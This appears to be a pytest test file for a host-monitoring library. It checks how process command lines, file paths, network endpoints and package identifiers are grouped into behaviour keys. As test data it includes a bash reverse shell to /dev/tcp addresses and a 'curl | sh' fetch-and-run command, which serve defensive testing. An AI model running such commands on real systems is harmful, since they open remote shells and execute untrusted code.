"""Clustering, file classes, endpoint and package keys on realistic inputs."""

from __future__ import annotations

import pytest

from heron.platform.graph import argv_shape, cluster_key, endpoint_key, fileclass, listen_key, package_key

SHIM = "/usr/bin/containerd-shim-runc-v2"

MERGE = [  # (exe, argv a, argv b): the same behaviour
    ("/usr/bin/sleep", ["sleep", "10"], ["sleep", "300"]),
    (SHIM, [SHIM, "-namespace", "moby", "-id", "3f4e" + "a" * 60, "-address", "/run/containerd/containerd.sock"],
     [SHIM, "-namespace", "moby", "-id", "9b1c" + "0" * 60, "-address", "/run/containerd/containerd.sock"]),
    ("/usr/bin/ssh", ["ssh", "deploy@10.0.0.1"], ["ssh", "deploy@10.0.0.2"]),
    ("/usr/bin/cat", ["cat", "/tmp/tmp.abc123XYZ"], ["cat", "/tmp/tmp.QQQ999/x"]),
    ("/usr/bin/python3.11", ["python3", "/usr/local/bin/worker.py", "--job-id=4711"],
     ["python3", "/usr/local/bin/worker.py", "--job-id=12"]),
    ("/usr/bin/curl", ["curl", "-H", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9abcdefghijklmnop1234"],
     ["curl", "-H", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9zzzzzzzzzzzzzzzz9876"]),
    ("/usr/bin/kubectl", ["kubectl", "delete", "pod", "a3f9c2d0-1b2c-4d5e-8f90-123456789abc"],
     ["kubectl", "delete", "pod", "0e9d8c7b-6a5f-4e3d-2c1b-0a9f8e7d6c5b"]),
    ("/usr/bin/vim", ["vim", "/home/alice/notes.txt"], ["vim", "/home/bob/notes.txt"]),
    ("/usr/bin/make", ["make", "-j4", "all", "V=1", "extra", "args", "beyond", "the", "shape"],
     ["make", "-j8", "all", "V=0", "extra", "different", "tail"]),
    ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"],
     ["bash", "-c", "bash -i >& /dev/tcp/192.168.9.9/5555 0>&1"]),
]

SPLIT = [  # (exe a, argv a, exe b, argv b): different behaviour
    ("/usr/bin/python3", ["python3", "-m", "http.server"], "/usr/bin/python3", ["python3", "-m", "pip", "install"]),
    ("/usr/bin/git", ["git", "clone", "x"], "/usr/bin/git", ["git", "push", "x"]),
    ("/usr/sbin/nginx", ["nginx: master process /usr/sbin/nginx"], "/usr/sbin/nginx", ["nginx: worker process"]),
    ("/usr/bin/bash", ["bash", "-c", "curl http://x | sh"], "/usr/bin/bash", ["bash", "/etc/cron.daily/logrotate"]),
    ("/usr/bin/python3", ["python3", "a.py"], "/usr/bin/python3", ["python3", "b.py"]),
    ("/usr/bin/sleep", ["sleep", "1"], "/tmp/sleep", ["sleep", "1"]),
]


@pytest.mark.parametrize(("exe", "a", "b"), MERGE)
def test_same_behaviour_merges(exe: str, a: list[str], b: list[str]) -> None:
    assert cluster_key(exe, "root", "host", a) == cluster_key(exe, "root", "host", b)


@pytest.mark.parametrize(("exe_a", "a", "exe_b", "b"), SPLIT)
def test_different_behaviour_splits(exe_a: str, a: list[str], exe_b: str, b: list[str]) -> None:
    assert cluster_key(exe_a, "root", "host", a) != cluster_key(exe_b, "root", "host", b)


def test_user_and_image_split_clusters() -> None:
    argv = ["sleep", "1"]
    base = cluster_key("/usr/bin/sleep", "root", "host", argv)
    assert base != cluster_key("/usr/bin/sleep", "www-data", "host", argv)
    assert base != cluster_key("/usr/bin/sleep", "root", "container", argv)
    assert cluster_key("/usr/bin/sleep", "root", "host", None).endswith("|?")


def test_shape_placeholders() -> None:
    assert argv_shape(["x", "--port=8080", "10.0.0.1:443", "[::1]:80"]) == "--port=<n> <ip>:<n> [<ip>]:<n>"
    assert argv_shape(["x", "/proc/1234/status"]) == "/proc/<n>/status"
    assert argv_shape(["x", "deadbeefcafe0123"]) == "<hex>"
    assert argv_shape(["x", "a", "b", "c", "d", "e"]) == "a b c d"  # cut to a few arguments
    assert len(argv_shape(["x", "y" * 500])) <= 64


@pytest.mark.parametrize(("path", "cls"), [
    ("/etc/cron.d/backdoor", "/etc/cron.d/*"),
    ("/etc/ssh/sshd_config", "/etc/ssh/*"),
    ("/usr/bin/ls", "/usr/bin/*"),
    ("/home/alice/.ssh/authorized_keys", "/home/*/.ssh/authorized_keys"),
    ("/root/.ssh/authorized_keys", "/root/.ssh/authorized_keys"),
    ("/home/bob/.bashrc", "/home/*/.bashrc"),
    ("/tmp/x", "/tmp/*"),
    ("/tmp/a/b/c/d/e", "/tmp/*"),
    ("/dev/shm/payload", "/dev/shm/*"),
    ("/etc/passwd", "/etc/passwd"),
    ("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal", "/var/log/journal/*/*"),
    ("/proc/1234/mem", "/proc/*/*"),
    ("/var/lib/docker/overlay2/" + "ab12" * 16 + "/diff/usr/bin/x", "/var/lib/docker/overlay2/**"),
    ("/run/user/1000/bus", "/run/user/*/*"),
])
def test_fileclass(path: str, cls: str) -> None:
    assert fileclass(path) == cls


def test_fileclass_generalises_users() -> None:
    assert fileclass("/home/alice/.ssh/id_rsa") == fileclass("/home/bob/.ssh/id_rsa") == "/home/*/.ssh/*"


def test_endpoint_keys() -> None:
    assert endpoint_key("93.184.216.34", 443, "Example.COM.") == "example.com:443"
    assert endpoint_key("93.184.216.34", 443) == "93.184.216.34:443"
    assert endpoint_key("2606:2800:220:1::", 443) == "[2606:2800:220:1::]:443"
    assert endpoint_key("127.0.0.1", 5432) == endpoint_key("::1", 5432) == "loopback:5432"
    assert endpoint_key("127.0.0.53", 53, "localhost") == "loopback:53"
    assert endpoint_key("10.0.0.1", 80, remote_class="loopback") == "loopback:80"
    assert listen_key("tcp", 22) == "listen:tcp:22"


def test_package_keys() -> None:
    assert package_key("pkg:deb/debian/openssl@3.0.11-1~deb12u2?arch=amd64&distro=debian-12") == \
        "pkg:deb/debian/openssl"
    assert package_key("pkg:npm/%40babel/core@7.22.0") == "pkg:npm/%40babel/core"
    assert package_key("pkg:pypi/requests@2.31.0") == "pkg:pypi/requests"
    assert package_key("pkg:pypi/requests") == "pkg:pypi/requests"
